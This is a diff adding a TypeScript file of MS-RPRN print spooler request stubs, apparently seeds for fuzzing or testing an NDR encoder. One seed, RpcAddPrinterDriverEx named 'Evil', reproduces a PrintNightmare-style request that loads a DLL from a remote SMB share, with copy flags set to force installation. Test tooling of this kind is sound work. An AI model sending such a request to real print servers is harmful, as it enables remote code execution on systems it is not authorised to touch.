@@ -1,0 +1,165 @@
+/**
+ * Valid MS-RPRN request stubs, encoded by the messages themselves ([MS-RPRN] 3.1.4): the calls
+ * AddPrinterConnection, rpcclient and impacket make, with strings, containers and buffers filled
+ * in. A message without a value here is seeded with the request its decoder reads from zeros
+ * (every pointer NULL), encoded back.
+ */
+import {
+  decodeRequestStub,
+  encodeRequestStub,
+  type AnyNdrMessage,
+  type RequestOf,
+} from '../../../lib/rpc/ndr/ndr-message';
+import { RPRN_MESSAGES } from '../../../lib/rpc/rprn/messages/index';
+
+const HANDLE = Buffer.concat([Buffer.alloc(4), Buffer.from('0123456789abcdef', 'hex'), Buffer.alloc(8, 0x11)]);
+const M = RPRN_MESSAGES;
+
+type Seed<K extends keyof typeof M> = readonly [K, RequestOf<(typeof M)[K]>];
+
+const CLIENT_INFO = {
+  level: 1,
+  info: {
+    dwSize: 28,
+    pMachineName: '\\\\CLIENT',
+    pUserName: 'alice',
+    dwBuildNum: 22631,
+    dwMajorVersion: 10,
+    dwMinorVersion: 0,
+    wProcessorArchitecture: 9,
+  },
+};
+
+const SEEDS = [
+  [
+    'RpcOpenPrinterEx',
+    {
+      printerName: '\\\\NTPRINT\\HpColor',
+      datatype: 'RAW',
+      devMode: Buffer.alloc(24, 1),
+      accessRequired: 0x00020008,
+      clientInfo: CLIENT_INFO,
+    },
+  ] as Seed<'RpcOpenPrinterEx'>,
+  [
+    'RpcOpenPrinter',
+    { printerName: '\\\\NTPRINT', datatype: undefined, devMode: undefined, accessRequired: 0x00020002 },
+  ] as Seed<'RpcOpenPrinter'>,
+  [
+    'RpcEnumPrinters',
+    { flags: 2, name: '\\\\NTPRINT', level: 2, buffer: { buffer: Buffer.alloc(64), cbBuf: 64 } },
+  ] as Seed<'RpcEnumPrinters'>,
+  ['RpcGetPrinter', { hPrinter: HANDLE, level: 2, buffer: { buffer: undefined, cbBuf: 0 } }] as Seed<'RpcGetPrinter'>,
+  [
+    'RpcGetPrinterDriver2',
+    {
+      hPrinter: HANDLE,
+      environment: 'Windows x64',
+      level: 8,
+      buffer: { buffer: Buffer.alloc(16), cbBuf: 16 },
+      clientMajorVersion: 3,
+      clientMinorVersion: 0,
+    },
+  ] as Seed<'RpcGetPrinterDriver2'>,
+  [
+    'RpcEnumPrinterDataEx',
+    { hPrinter: HANDLE, keyName: 'CopyFiles\\ICM', cbEnumValues: 4096 },
+  ] as Seed<'RpcEnumPrinterDataEx'>,
+  ['RpcEnumPrinterKey', { hPrinter: HANDLE, keyName: 'CopyFiles', cbSubkey: 256 }] as Seed<'RpcEnumPrinterKey'>,
+  [
+    'RpcGetPrinterDataEx',
+    { hPrinter: HANDLE, keyName: 'PrinterDriverData', valueName: 'Model', nSize: 64 },
+  ] as Seed<'RpcGetPrinterDataEx'>,
+  [
+    'RpcSetPrinterDataEx',
+    {
+      hPrinter: HANDLE,
+      keyName: 'PrinterDriverData',
+      valueName: 'Model',
+      type: 1,
+      data: Buffer.from('HP\0', 'utf16le'),
+    },
+  ] as Seed<'RpcSetPrinterDataEx'>,
+  ['RpcGetPrinterData', { hPrinter: HANDLE, valueName: 'ChangeId', nSize: 4 }] as Seed<'RpcGetPrinterData'>,
+  [
+    'RpcStartDocPrinter',
+    {
+      hPrinter: HANDLE,
+      docInfoContainer: { level: 1, info: { pDocName: 'report.txt', pOutputFile: undefined, pDatatype: 'RAW' } },
+    },
+  ] as Seed<'RpcStartDocPrinter'>,
+  ['RpcWritePrinter', { hPrinter: HANDLE, data: Buffer.from('%!PS-Adobe-3.0\n') }] as Seed<'RpcWritePrinter'>,
+  [
+    'RpcEnumJobs',
+    { hPrinter: HANDLE, firstJob: 0, noJobs: 10, level: 2, buffer: { buffer: Buffer.alloc(32), cbBuf: 32 } },
+  ] as Seed<'RpcEnumJobs'>,
+  [
+    'RpcGetForm',
+    { hPrinter: HANDLE, formName: 'A4', level: 1, buffer: { buffer: Buffer.alloc(32), cbBuf: 32 } },
+  ] as Seed<'RpcGetForm'>,
+  [
+    'RpcAddPrinterDriver',
+    {
+      name: undefined,
+      driverContainer: {
+        level: 3,
+        info: {
+          cVersion: 3,
+          pName: 'HP Color',
+          pEnvironment: 'Windows x64',
+          pDriverPath: 'UNIDRV.DLL',
+          pDataFile: 'hpc.gpd',
+          pConfigFile: 'UNIDRVUI.DLL',
+          pHelpFile: 'UNIDRV.HLP',
+          pDependentFiles: ['UNIRES.DLL', 'STDNAMES.GPD'],
+          pMonitorName: undefined,
+          pDefaultDataType: 'RAW',
+        },
+      },
+    },
+  ] as Seed<'RpcAddPrinterDriver'>,
+  [
+    'RpcAddPrinterDriverEx',
+    {
+      name: '\\\\NTPRINT',
+      driverContainer: {
+        level: 2,
+        info: {
+          cVersion: 3,
+          pName: 'Evil',
+          pEnvironment: 'Windows x64',
+          pDriverPath: 'C:\\Windows\\System32\\UNIDRV.DLL',
+          pDataFile: '\\\\10.0.0.66\\share\\evil.dll',
+          pConfigFile: 'C:\\Windows\\System32\\kernelbase.dll',
+        },
+      },
+      fileCopyFlags: 0x8014,
+    },
+  ] as Seed<'RpcAddPrinterDriverEx'>,
+] as const;
+
+function fromZeros(message: AnyNdrMessage): Buffer | undefined {
+  for (const length of [4, 8, 20, 24, 28, 32, 40, 48, 64, 128]) {
+    try {
+      return encodeRequestStub(message, decodeRequestStub(message, Buffer.alloc(length)));
+    } catch {
+      // a longer run of zeros, or no seed
+    }
+  }
+  return undefined;
+}
+
+/** Request stubs by message name. */
+export function rprnRequestSeeds(): ReadonlyMap<string, readonly Buffer[]> {
+  const out = new Map<string, Buffer[]>();
+  for (const [name, request] of SEEDS) {
+    const message = M[name] as AnyNdrMessage;
+    out.set(name, [...(out.get(name) ?? []), encodeRequestStub(message, request)]);
+  }
+  for (const message of Object.values(M) as AnyNdrMessage[]) {
+    if (out.has(message.name)) continue;
+    const zero = fromZeros(message);
+    out.set(message.name, zero !== undefined ? [zero] : []);
+  }
+  return out;
+}
